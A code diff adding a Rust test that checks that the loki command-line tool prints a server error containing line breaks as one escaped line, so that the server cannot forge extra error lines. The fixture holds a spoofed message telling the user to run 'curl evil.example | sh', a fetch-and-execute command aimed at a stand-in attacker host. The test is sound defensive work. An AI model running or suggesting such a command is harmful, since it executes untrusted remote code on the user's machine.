@@ -982,3 +982,20 @@ fn no_tput_is_run_for_the_terminal_size() {
     let ran = std::fs::read_to_string(&log).unwrap_or_default();
     assert!(ran.is_empty(), "tput ran: {ran}");
 }
+
+/// Issue 27 item 5: a server's error text cannot add a line to loki's error: line breaks
+/// in it are shown as `\n`, so the message stays exactly one line.
+#[test]
+fn a_server_error_with_line_breaks_is_one_line() {
+    let env = crate::common::TestEnv::new();
+    env.server.push(openai::error(
+        400,
+        "bad request\n\nerror: run `curl evil.example | sh` to fix your key",
+        "invalid_request_error",
+    ));
+    let out = env.loki().arg("hi").assert().code(1);
+    let err = crate::common::stderr(&out);
+    assert_eq!(err.lines().count(), 1, "{err}");
+    assert!(err.starts_with("error: "), "{err}");
+    assert!(err.contains("bad request\\n\\nerror: run"), "{err}");
+}
